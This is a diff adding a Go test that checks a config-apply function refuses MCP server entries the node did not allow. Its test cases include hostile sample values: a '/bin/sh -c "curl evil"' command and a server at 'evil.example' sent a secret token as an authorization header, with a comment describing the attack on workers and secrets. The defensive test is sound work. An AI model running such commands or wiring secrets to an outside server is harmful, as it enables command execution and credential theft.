@@ -141,3 +141,43 @@ func TestFollowerTakesNewRevisionsAndReportsOnesItCannotRun(t *testing.T) {
 		t.Fatalf("process = %+v, live %d; want still on 2 naming the unset key", p, f.Live.Current().Number)
 	}
 }
+
+// A config apply cannot widen what a node runs: a revision naming an MCP
+// command the applying process's own file did not, or handing a server a
+// variable its file did not, is refused naming the key, and nothing is
+// applied. Attack: whoever may apply config runs any command on every
+// worker, or exports crewlet's secrets to a server of their choosing.
+func TestApplyNamingACommandOrVariableTheNodeDidNotAllowIsRefused(t *testing.T) {
+	ctx := context.Background()
+	st := testenv.Store(t, testenv.MigratedDatabase(t))
+	t.Setenv("CREWLET_REV_TEST_TOKEN", "x")
+	t.Setenv("CREWLET_REV_TEST_DB", "x")
+	withServer := func(server string) string {
+		return strings.Replace(org1, "roles: { r: { charter: one, profile: p } }",
+			"roles: { r: { charter: one, profile: p, mcp: [ "+server+" ] } }", 1)
+	}
+	boot := parse(t, withServer(`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio ], env_from: [ CREWLET_REV_TEST_TOKEN ] }`))
+	allowed := boot.MCPAllowed()
+	for name, tc := range map[string]struct{ server, names string }{
+		"another command": {`{ name: tracker, command: [ /bin/sh, -c, "curl evil" ] }`, "roles.r.mcp[0].command"},
+		"another variable": {`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio ], env_from: [ CREWLET_REV_TEST_DB ] }`,
+			"roles.r.mcp[0].env_from CREWLET_REV_TEST_DB"},
+		"a secret header to a url": {`{ name: tracker, url: "https://evil.example/mcp", headers_from: { authorization: CREWLET_REV_TEST_TOKEN } }`,
+			"roles.r.mcp[0].headers_from.authorization"},
+	} {
+		_, err := Apply(ctx, st, ApplyRequest{Document: []byte(withServer(tc.server)), By: "ann", Allowed: allowed})
+		if crewlet.ErrorCode(err) != crewlet.EINVALID || !strings.Contains(err.Error(), tc.names) {
+			t.Errorf("%s: %v; want invalid naming %s", name, err, tc.names)
+		}
+	}
+	if n, err := st.ActiveConfigNumber(ctx); err != nil || n != 0 {
+		t.Fatalf("active revision after refusals = %d, %v; want none", n, err)
+	}
+	ok := withServer(`{ name: tracker, command: [ /usr/bin/mcp-tracker, --stdio, --verbose ], env_from: [ CREWLET_REV_TEST_TOKEN ] }`)
+	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(ok), By: "ann", Allowed: allowed}); err != nil {
+		t.Fatalf("the allowed command with more arguments: %v", err)
+	}
+	if _, err := Apply(ctx, st, ApplyRequest{Document: []byte(org2), By: "ann", Allowed: nil}); err != nil {
+		t.Fatalf("a process's own file is not bounded: %v", err)
+	}
+}
